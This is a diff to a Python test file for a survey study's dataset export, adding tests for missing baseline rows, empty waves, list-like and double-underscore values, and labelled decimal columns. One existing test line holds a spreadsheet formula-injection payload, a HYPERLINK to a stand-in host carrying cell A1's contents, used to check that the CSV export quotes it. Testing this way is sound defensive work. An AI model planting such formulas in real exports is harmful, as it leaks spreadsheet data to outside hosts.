@@ -12,7 +12,7 @@ from surveys.datasets import csv_rows, dataset_diary, dataset_long, dataset_wide
 from surveys.datasets.pid import date_offset
 from surveys.exports import ExportSpec, dataset_export
 from surveys.instruments import instrument_items_set, version_items_as_dicts
-from surveys.models import DiaryEntry, Instrument, Study
+from surveys.models import DiaryEntry, Instrument, Study, WaveInstrument
 from tests.surveys.test_datasets import (  # noqa: F401 - fixtures
     BASELINE_ANSWERS,
     BASELINE_DAY,
@@ -182,3 +182,54 @@ def test_text_that_would_run_as_a_formula_is_quoted_in_the_csv(design, site_a, e
     assert (back["story"].dropna() == '\'=HYPERLINK("http://x.example/?"&A1)').any()
     assert (back["craving"] == 6).any()  # numbers are untouched; -98 codes stay numbers
     assert (back["attended_any"] == -98).any()
+
+
+# --- Found by review: the column-by-column builder against the per-response one --------------
+
+
+def test_covariates_of_someone_without_a_baseline_row_are_empty(cohort, site_a, enrol):  # noqa: F811
+    ana = cohort[0]
+    late = enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
+    late.assignments.filter(wave__slug="baseline").delete()
+    frame = dataset_long(study=ana.study, covariates=["age"])
+    assert frame["pid"].dtype == "string" and frame["age_bl"].dtype == "Int64"
+    assert row(frame, ana, "m1")["age_bl"] == 34
+    assert pd.isna(row(frame, late, "m1")["age_bl"])
+
+
+def test_a_wave_without_questions_keeps_its_rows(cohort):  # noqa: F811
+    ana = cohort[0]
+    WaveInstrument.objects.filter(wave__study=ana.study, wave__slug="m6").delete()
+    frame = dataset_long(study=ana.study)
+    assert row(frame, ana, "m6")["status"] == "not_yet_due"
+    assert len(frame) == 2 * 5
+
+
+def test_text_that_looks_like_an_empty_list_is_an_answer(design, site_a, enrol):  # noqa: F811
+    person = enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
+    submit(person, "baseline", "baseline", {**BASELINE_ANSWERS, "story": "[]"}, BASELINE_DAY)
+    frame = dataset_long(study=person.study, include_free_text=True)
+    assert row(frame, person, "baseline")["story"] == "[]"
+
+
+def test_a_variable_with_a_double_underscore_is_read(design, site_a, enrol):  # noqa: F811
+    baseline = Instrument.objects.get(study=design, slug="baseline")
+    extra = {"variable": "pets__count", "kind": "integer", "label": {"en": "Pets"}}
+    items = [*version_items_as_dicts(baseline.current_version), extra]
+    for position, item in enumerate(items, start=1):
+        item["position"] = position
+    instrument_items_set(instrument=baseline, items=items)
+    person = enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
+    submit(person, "baseline", "baseline", {**BASELINE_ANSWERS, "pets__count": 2}, BASELINE_DAY)
+    assert row(dataset_long(study=design), person, "baseline")["pets__count"] == 2
+
+
+def test_labels_replace_codes_in_decimal_columns_too(cohort):  # noqa: F811
+    ana, ben = cohort
+    frame = dataset_long(study=ana.study)
+    labelled = pd.read_csv(io.StringIO("".join(csv_rows(frame, labels=True))))
+    pid = row(frame, ben, "m1")["pid"]
+    missed = labelled[(labelled["pid"] == pid) & (labelled["wave"] == "m1")].iloc[0]
+    assert missed["meetings_online_share"].startswith("Wave missed")
+    done = labelled[(labelled["pid"] == row(frame, ana, "m1")["pid"]) & (labelled["wave"] == "m1")]
+    assert float(done.iloc[0]["meetings_online_share"]) == pytest.approx(3 / 8)
